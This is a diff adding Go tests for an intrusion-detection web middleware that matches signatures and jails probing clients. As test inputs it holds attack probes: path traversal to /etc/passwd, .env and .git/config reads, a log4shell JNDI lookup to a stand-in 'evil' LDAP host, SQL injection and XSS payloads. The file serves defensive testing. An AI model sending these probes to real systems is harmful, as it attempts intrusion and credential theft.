@@ -0,0 +1,77 @@
+package teapot_hacker_isolation
+
+import (
+	"bytes"
+	"context"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+)
+
+func TestSignaturePack(t *testing.T) {
+	config := CreateConfig()
+	config.SignatureCategories = []string{"all"}
+	config.SignatureDisabledIds = []string{"TH-5002"}
+	pack, err := NewSignaturePack(config)
+	if err != nil {
+		t.Fatal(err)
+	}
+	probes := map[string]string{
+		"/static/..%2f..%2fetc/passwd":                "TH-1001",
+		"/.env":                                       "TH-2001",
+		"/.git/config":                                "TH-2002",
+		"/wp-login.php":                               "TH-3001",
+		"/phpMyAdmin/index.php":                       "TH-3101",
+		"/search?q=$%7Bjndi:ldap://evil/a%7D":         "TH-4001",
+		"/items?id=1%20UNION%20SELECT%20password":     "TH-5001",
+		"/search?q=%3Cscript%3Ealert(1)%3C/script%3E": "TH-6001",
+		"/search?q=x'%20or%20'1'='1":                  "",
+		"/search?q=rock%20and%20roll":                 "",
+		"/blog/environment-variables":                 "",
+	}
+	for target, want := range probes {
+		req := httptest.NewRequest(http.MethodGet, "http://localhost"+target, nil)
+		rule, _ := pack.Match(req)
+		got := ""
+		if rule != nil {
+			got = rule.ID
+		}
+		if got != want {
+			t.Errorf("%s: expected %q, got %q", target, want, got)
+		}
+	}
+	req := httptest.NewRequest(http.MethodGet, "http://localhost/", nil)
+	req.Header.Set("User-Agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine)")
+	if rule, score := pack.Match(req); rule == nil || rule.ID != "TH-7001" || score != 5 {
+		t.Errorf("Expected the scanner user agent to match with score 5, got %v %d", rule, score)
+	}
+
+	config.SignatureDisabledIds = []string{"TH-9999"}
+	if _, err := NewSignaturePack(config); err == nil {
+		t.Errorf("Expected an error for an unknown rule id")
+	}
+}
+
+func TestSignatureBansBeforeNext(t *testing.T) {
+	ctx := context.Background()
+	config := CreateTestConfig()
+	config.MinInstances = 10
+	config.SignatureCategories = []string{"log4shell"}
+	config.LogFormat = "json"
+	newPlugin, err := CreateTestPlugin(config, ctx)
+	if err != nil {
+		t.Fatal(err)
+	}
+	logs := &bytes.Buffer{}
+	newPlugin.Logger.stdout = logs
+	// next would have answered 200, so a 418 means the probe was jailed before it got there
+	recorder := ServeTestRequest(newPlugin, http.MethodGet, "http://localhost/", "0.1.2.3", "", "X-Api-Version", "${jndi:ldap://evil/a}")
+	if recorder.Code != 418 {
+		t.Errorf("Expected a log4shell probe (score 10) to be jailed before next, got %d", recorder.Code)
+	}
+	// matches carry the pack version, so they can be told apart after the bundled rules change
+	if !strings.Contains(logs.String(), `"signaturePack":"`+SignaturePackVersion+`"`) {
+		t.Errorf("Expected the signature match to be logged with the pack version, got %s", logs.String())
+	}
+}